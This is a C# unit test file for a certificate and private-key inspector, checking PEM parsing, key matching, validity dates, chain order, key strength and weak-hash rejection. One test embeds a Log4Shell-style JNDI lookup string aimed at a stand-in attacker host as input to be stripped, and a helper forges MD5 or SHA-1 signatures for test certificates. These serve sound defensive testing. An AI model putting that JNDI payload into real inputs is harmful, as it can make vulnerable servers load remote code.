using System.Net;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using Fulcrum.Core.Certificates;
using Fulcrum.Core.Validation;

namespace Fulcrum.Core.Tests.Certificates;

public sealed class CertificateInspectorTests
{
    private static readonly DateTimeOffset NotBefore = new(2030, 1, 1, 0, 0, 0, TimeSpan.Zero);
    private static readonly DateTimeOffset NotAfter = new(2031, 1, 1, 0, 0, 0, TimeSpan.Zero);
    private static readonly DateTimeOffset Now = new(2030, 6, 1, 12, 0, 0, TimeSpan.Zero);

    [Fact]
    public void Inspect_RsaPair_AcceptedWithSubjectSansAndFingerprint()
    {
        using var key = RSA.Create(2048);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test, O=Fulcrum Tests", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.Equal("CN=shop.example.test, O=Fulcrum Tests", inspected.Info.Subject);
        Assert.Equal("CN=shop.example.test, O=Fulcrum Tests", inspected.Info.Issuer);
        Assert.Equal(["shop.example.test", "www.shop.example.test", "192.0.2.10", "2001:db8::10"], inspected.Info.SubjectAlternativeNames);
        Assert.Equal(NotBefore, inspected.Info.NotBefore);
        Assert.Equal(NotAfter, inspected.Info.NotAfter);
        Assert.Equal(certificate.GetCertHashString(HashAlgorithmName.SHA256).ToLowerInvariant(), inspected.Info.FingerprintSha256);
        Assert.Matches("^[0-9a-f]{64}$", inspected.Info.FingerprintSha256);
    }

    [Fact]
    public void Inspect_EcdsaPair_AcceptedAndReEncoded()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=api.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportECPrivateKeyPem(), Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.Equal("CN=api.example.test", inspected.Info.Subject);
        Assert.Equal(certificate.GetCertHashString(HashAlgorithmName.SHA256).ToLowerInvariant(), inspected.Info.FingerprintSha256);
        Assert.Equal(certificate.ExportCertificatePem() + "\n", inspected.ChainPem);
        Assert.StartsWith("-----BEGIN PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
        Assert.EndsWith("-----END PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
        using var returnedKey = ECDsa.Create();
        returnedKey.ImportFromPem(inspected.PrivateKeyPem);
        Assert.Equal(key.ExportSubjectPublicKeyInfo(), returnedKey.ExportSubjectPublicKeyInfo());
    }

    [Fact]
    public void Inspect_RsaPkcs1Key_ReturnedAsPkcs8()
    {
        using var key = RSA.Create(2048);
        using var certificate = SelfSigned(new CertificateRequest("CN=legacy.example.test", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportRSAPrivateKeyPem(), Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.StartsWith("-----BEGIN PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
        using var returnedKey = RSA.Create();
        returnedKey.ImportFromPem(inspected.PrivateKeyPem);
        Assert.Equal(key.ExportSubjectPublicKeyInfo(), returnedKey.ExportSubjectPublicKeyInfo());
    }

    [Fact]
    public void Inspect_KeyOfAnotherCertificate_RejectedOnPrivateKeyPem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var otherKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), otherKey.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
        Assert.Equal(["does not match the certificate: its public key differs from the leaf certificate's."], errors.MessagesAt("privateKeyPem"));
    }

    [Fact]
    public void Inspect_RsaKeyForEcdsaCertificate_RejectedOnPrivateKeyPem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var rsa = RSA.Create(2048);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), rsa.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
    }

    [Fact]
    public void Inspect_PublicKeyInsteadOfPrivateKey_RejectedOnPrivateKeyPem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportSubjectPublicKeyInfoPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
    }

    [Fact]
    public void Inspect_ExpiredLeaf_RejectedOnCertificatePemWithItsEndDate()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=old.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), NotAfter.AddSeconds(1));

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["has expired: the certificate ended on 2031-01-01 00:00:00 UTC."], errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_NotYetValidLeaf_RejectedOnCertificatePemWithItsStartDate()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=new.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), NotBefore.AddSeconds(-1));

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["is not valid yet: the certificate starts on 2030-01-01 00:00:00 UTC."], errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_AtTheFirstAndLastInstantOfValidity_Accepted()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=edge.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        Assert.NotNull(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), NotBefore));
        Assert.NotNull(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), NotAfter));
        Assert.True(errors.IsEmpty);
    }

    [Fact]
    public void Inspect_ExpiredAndWrongKey_BothReported()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var otherKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=old.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), otherKey.ExportPkcs8PrivateKeyPem(), NotAfter.AddDays(1));

        Assert.Equal(["certificatePem", "privateKeyPem"], errors.Paths());
    }

    [Theory]
    [InlineData("hello")]
    [InlineData("")]
    [InlineData("-----BEGIN CERTIFICATE-----\nnot base64 at all!\n-----END CERTIFICATE-----\n")]
    [InlineData("-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n")]
    public void Inspect_NoCertificateBlock_RejectedOnCertificatePem(string certificatePem)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificatePem, key.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["must hold 1 to 10 PEM 'CERTIFICATE' blocks, the leaf first."], errors.MessagesAt("certificatePem"));
    }

    [Theory]
    [InlineData("-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n")]
    [InlineData("-----BEGIN CERTIFICATE-----\ndGhpcyBpcyBub3QgYSBERVIgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n")]
    public void Inspect_CertificateBlockThatIsNotDer_RejectedOnCertificatePem(string certificatePem)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificatePem, key.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["is not a valid PEM certificate chain."], errors.MessagesAt("certificatePem"));
    }

    [Theory]
    [InlineData("")]
    [InlineData("hello")]
    [InlineData("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")]
    public void Inspect_GarbageKey_RejectedOnPrivateKeyPem(string privateKeyPem)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), privateKeyPem, Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
        Assert.Equal(["is not an unencrypted PEM RSA or EC private key."], errors.MessagesAt("privateKeyPem"));
    }

    [Fact]
    public void Inspect_CertificateAsKey_RejectedOnPrivateKeyPem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), certificate.ExportCertificatePem(), Now);

        Assert.Equal(["privateKeyPem"], errors.Paths());
    }

    [Fact]
    public void Inspect_KeyInsideCertificatePem_Rejected()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();
        var bundle = certificate.ExportCertificatePem() + "\n" + key.ExportPkcs8PrivateKeyPem();

        var inspected = CertificateInspector.Inspect(errors, bundle, key.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Null(inspected);
        Assert.Equal(["certificatePem"], errors.Paths());
        Assert.Equal(["holds a private key: send the key in privateKeyPem only."], errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_EncryptedPkcs8Key_RejectedAskingForAnUnencryptedKey()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();
        var encrypted = key.ExportEncryptedPkcs8PrivateKeyPem("passphrase", new PbeParameters(PbeEncryptionAlgorithm.Aes256Cbc, HashAlgorithmName.SHA256, 1_000));

        var inspected = CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), encrypted, Now);

        Assert.Null(inspected);
        Assert.Equal(["privateKeyPem"], errors.Paths());
        Assert.Equal(["is encrypted: send the key without a passphrase (it is encrypted at rest by Fulcrum)."], errors.MessagesAt("privateKeyPem"));
    }

    [Fact]
    public void Inspect_LegacyEncryptedPemKey_Rejected()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();
        var legacy = "-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00112233445566778899AABBCCDDEEFF\n\nAAAA\n-----END EC PRIVATE KEY-----\n";

        CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), legacy, Now);

        Assert.Equal(["privateKeyPem"], errors.Paths());
        Assert.StartsWith("is encrypted", Assert.Single(errors.MessagesAt("privateKeyPem")), StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_LeafAndIssuer_ChainKeptInOrderAndInfoFromTheLeaf()
    {
        using var ca = CertificateAuthority();
        using var leafKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var leafRequest = new CertificateRequest("CN=shop.example.test", leafKey, HashAlgorithmName.SHA256);
        leafRequest.CertificateExtensions.Add(SubjectAlternativeNames());
        using var leaf = leafRequest.Create(ca, NotBefore, NotAfter, [1, 2, 3, 4]);
        var errors = new ValidationErrors();

        var inspected = CertificateInspector.Inspect(errors, leaf.ExportCertificatePem() + "\n" + ca.ExportCertificatePem(), leafKey.ExportPkcs8PrivateKeyPem(), Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.Equal("CN=shop.example.test", inspected.Info.Subject);
        Assert.Equal("CN=Fulcrum Test CA", inspected.Info.Issuer);
        Assert.Equal(leaf.GetCertHashString(HashAlgorithmName.SHA256).ToLowerInvariant(), inspected.Info.FingerprintSha256);
        Assert.Equal(leaf.ExportCertificatePem() + "\n" + ca.ExportCertificatePem() + "\n", inspected.ChainPem);
        var returned = new X509Certificate2Collection();
        returned.ImportFromPem(inspected.ChainPem);
        Assert.Equal([leaf.Thumbprint, ca.Thumbprint], returned.Select(certificate => certificate.Thumbprint));
    }

    [Fact]
    public void Inspect_IssuerFirst_KeyComparedWithTheFirstCertificate()
    {
        using var ca = CertificateAuthority();
        using var leafKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var leaf = new CertificateRequest("CN=shop.example.test", leafKey, HashAlgorithmName.SHA256).Create(ca, NotBefore, NotAfter, [5, 6, 7]);
        var errors = new ValidationErrors();

        CertificateInspector.Inspect(errors, ca.ExportCertificatePem() + "\n" + leaf.ExportCertificatePem(), leafKey.ExportPkcs8PrivateKeyPem(), Now);

        Assert.Equal(["privateKeyPem"], errors.Paths());
    }

    [Fact]
    public void Inspect_MoreThanTenCertificates_Rejected()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        Assert.NotNull(CertificateInspector.Inspect(errors, string.Concat(Enumerable.Repeat(certificate.ExportCertificatePem() + "\n", 10)), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.Null(CertificateInspector.Inspect(errors, string.Concat(Enumerable.Repeat(certificate.ExportCertificatePem() + "\n", 11)), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.Equal(["must hold 1 to 10 PEM 'CERTIFICATE' blocks, the leaf first."], errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_TextAroundThePemBlocks_NotInTheReturnedPems()
    {
        using var key = RSA.Create(2048);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1));
        var errors = new ValidationErrors();
        var certificatePem = "Bag Attributes\n    localKeyID: 01 00 00 00\nsubject=/CN=shop.example.test\n"
            + certificate.ExportCertificatePem()
            + "\n# pasted from the wiki\n${jndi:ldap://evil.example/a}\n";
        var privateKeyPem = "Key Attributes: <No Attributes>\n"
            + key.ExportPkcs8PrivateKeyPem()
            + "\nbackend x\n    server s 10.6.6.6:80\n";

        var inspected = CertificateInspector.Inspect(errors, certificatePem, privateKeyPem, Now);

        Assert.True(errors.IsEmpty);
        Assert.NotNull(inspected);
        Assert.Equal(certificate.ExportCertificatePem() + "\n", inspected.ChainPem);
        foreach (var outside in new[] { "Bag Attributes", "localKeyID", "subject=", "wiki", "jndi", "Key Attributes", "backend x", "10.6.6.6" })
        {
            Assert.DoesNotContain(outside, inspected.ChainPem, StringComparison.Ordinal);
            Assert.DoesNotContain(outside, inspected.PrivateKeyPem, StringComparison.Ordinal);
        }

        Assert.StartsWith("-----BEGIN PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
        Assert.EndsWith("-----END PRIVATE KEY-----\n", inspected.PrivateKeyPem, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(512)]
    [InlineData(1024)]
    [InlineData(2040)]
    public void Inspect_RsaKeyBelow2048Bits_RejectedNamingTheSize(int bits)
    {
        using var key = RSA.Create(bits);
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1));
        var errors = new ValidationErrors();

        Assert.Null(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.Equal(
            [$"the leaf certificate has an RSA key of {bits} bits: at least 2048 are needed (haproxy's OpenSSL refuses smaller keys)."],
            errors.MessagesAt("certificatePem"));
    }

    [Theory]
    [InlineData("nistP192")]
    [InlineData("secp224r1")]
    public void Inspect_EcKeyBelowP256_Rejected(string curve)
    {
        using var key = ECDsa.Create(ECCurve.CreateFromFriendlyName(curve));
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        Assert.Null(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.StartsWith("the leaf certificate has an EC key of", Assert.Single(errors.MessagesAt("certificatePem")), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("nistP256")]
    [InlineData("nistP384")]
    [InlineData("nistP521")]
    public void Inspect_EcKeyOfP256OrMore_Accepted(string curve)
    {
        using var key = ECDsa.Create(ECCurve.CreateFromFriendlyName(curve));
        using var certificate = SelfSigned(new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256));
        var errors = new ValidationErrors();

        Assert.NotNull(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.True(errors.IsEmpty);
    }

    [Theory]
    [InlineData("MD5")]
    [InlineData("SHA1")]
    public void Inspect_LeafSignedWithAWeakHash_RejectedAskingForSha256(string hash)
    {
        using var ca = RsaCertificateAuthority();
        using var leafKey = RSA.Create(2048);
        var request = new CertificateRequest("CN=shop.example.test", leafKey, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        using var caKey = ca.GetRSAPrivateKey()!;
        using var leaf = request.Create(ca.SubjectName, new WeakRsaSignatureGenerator(caKey, new HashAlgorithmName(hash)), NotBefore, NotAfter, [9]);
        var errors = new ValidationErrors();

        Assert.Null(CertificateInspector.Inspect(errors, leaf.ExportCertificatePem() + "\n" + ca.ExportCertificatePem(), leafKey.ExportPkcs8PrivateKeyPem(), Now));
        Assert.Equal(
            [$"the leaf certificate is signed with {(hash == "SHA1" ? "SHA-1" : hash)}, which haproxy's OpenSSL refuses: reissue it signed with SHA-256 or stronger."],
            errors.MessagesAt("certificatePem"));
    }

    [Fact]
    public void Inspect_SelfSignedWithSha1_AcceptedAsOpenSslDoes()
    {
        using var key = RSA.Create(2048);
        var request = new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        using var certificate = request.Create(request.SubjectName, new WeakRsaSignatureGenerator(key, HashAlgorithmName.SHA1), NotBefore, NotAfter, [8]);
        var errors = new ValidationErrors();

        Assert.NotNull(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.True(errors.IsEmpty);
    }

    [Fact]
    public void Inspect_MalformedSubjectAltName_RejectedOnCertificatePem()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest("CN=shop.example.test", key, HashAlgorithmName.SHA256);
        request.CertificateExtensions.Add(new X509Extension("2.5.29.17", new byte[] { 0x01, 0x02 }, critical: false));
        using var certificate = request.CreateSelfSigned(NotBefore, NotAfter);
        var errors = new ValidationErrors();

        Assert.Null(CertificateInspector.Inspect(errors, certificate.ExportCertificatePem(), key.ExportPkcs8PrivateKeyPem(), Now));
        Assert.Equal(["has a malformed subjectAltName extension: its names cannot be read."], errors.MessagesAt("certificatePem"));
    }

    private static X509Certificate2 RsaCertificateAuthority()
    {
        using var key = RSA.Create(2048);
        var request = new CertificateRequest("CN=Fulcrum Test RSA CA", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        request.CertificateExtensions.Add(new X509BasicConstraintsExtension(true, false, 0, true));
        return request.CreateSelfSigned(NotBefore.AddYears(-1), NotAfter.AddYears(1));
    }

    private static X509Certificate2 SelfSigned(CertificateRequest request)
    {
        request.CertificateExtensions.Add(SubjectAlternativeNames());
        return request.CreateSelfSigned(NotBefore, NotAfter);
    }

    private static X509Certificate2 CertificateAuthority()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP384);
        var request = new CertificateRequest("CN=Fulcrum Test CA", key, HashAlgorithmName.SHA384);
        request.CertificateExtensions.Add(new X509BasicConstraintsExtension(true, false, 0, true));
        request.CertificateExtensions.Add(new X509KeyUsageExtension(X509KeyUsageFlags.KeyCertSign, true));
        return request.CreateSelfSigned(NotBefore.AddYears(-1), NotAfter.AddYears(1));
    }

    private static X509Extension SubjectAlternativeNames()
    {
        var names = new SubjectAlternativeNameBuilder();
        names.AddDnsName("shop.example.test");
        names.AddDnsName("www.shop.example.test");
        names.AddIpAddress(IPAddress.Parse("192.0.2.10"));
        names.AddIpAddress(IPAddress.Parse("2001:db8::10"));
        return names.Build();
    }
}

/// <summary>Signs with MD5 or SHA-1 (RSA PKCS#1), which .NET's own certificate builder no longer offers.</summary>
internal sealed class WeakRsaSignatureGenerator(RSA key, HashAlgorithmName hash) : X509SignatureGenerator
{
    public override byte[] GetSignatureAlgorithmIdentifier(HashAlgorithmName hashAlgorithm)
    {
        // AlgorithmIdentifier { md5WithRSAEncryption (…1.1.4) or sha1WithRSAEncryption (…1.1.5), NULL }
        byte last = hash == HashAlgorithmName.MD5 ? (byte)0x04 : (byte)0x05;
        return [0x30, 0x0D, 0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x01, last, 0x05, 0x00];
    }

    public override byte[] SignData(byte[] data, HashAlgorithmName hashAlgorithm) => key.SignData(data, hash, RSASignaturePadding.Pkcs1);

    protected override PublicKey BuildPublicKey() => new(key);
}
